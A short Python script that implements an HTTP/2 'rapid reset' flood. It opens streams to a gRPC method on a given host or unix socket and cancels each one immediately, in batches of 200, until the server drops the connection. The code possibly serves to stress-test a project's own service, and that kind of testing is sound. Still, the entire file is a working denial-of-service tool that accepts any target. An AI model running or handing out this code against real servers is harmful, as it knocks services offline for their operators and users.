"""An HTTP/2 client that opens streams and resets them at once, in a tight loop. Standard library only.

As a program: the path of a unix socket or HOST:PORT; it runs until it is ended, and prints a line when it has begun.
"""

import socket
import struct
import sys

_HEADERS, _DATA, _RESET, _SETTINGS = 1, 0, 3, 4
_CANCEL = struct.pack(">I", 8)
_AT_ONCE = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _header(name: str, value: str) -> bytes:
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def opened(address: str) -> socket.socket:
    """A connection that has said HTTP/2."""
    if "/" in address:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address)
    else:
        host, _, port = address.rpartition(":")
        connection = socket.create_connection((host, int(port)))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0))
    return connection


def flood(connection: socket.socket, method: str) -> None:
    """Until the other end has enough of it."""
    block = b"".join(
        _header(name, value)
        for name, value in (
            *((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost")),
            *(("te", "trailers"), ("content-type", "application/grpc")),
        )
    )
    connection.settimeout(0)
    stream = 1
    while stream < 2**30:
        call = b"".join(
            frame(_HEADERS, 4, each, block) + frame(_DATA, 1, each, bytes(5)) + frame(_RESET, 0, each, _CANCEL)
            for each in range(stream, stream + 2 * _AT_ONCE, 2)
        )
        stream += 2 * _AT_ONCE
        connection.settimeout(None)
        connection.sendall(call)
        if stream == 1 + 20 * _AT_ONCE:
            print("begun", flush=True)
        connection.settimeout(0)
        try:
            while connection.recv(65536):
                pass
            return
        except BlockingIOError:
            pass


if __name__ == "__main__":
    flood(opened(sys.argv[1]), "/betcode.v1.AgentService/ListSessions")
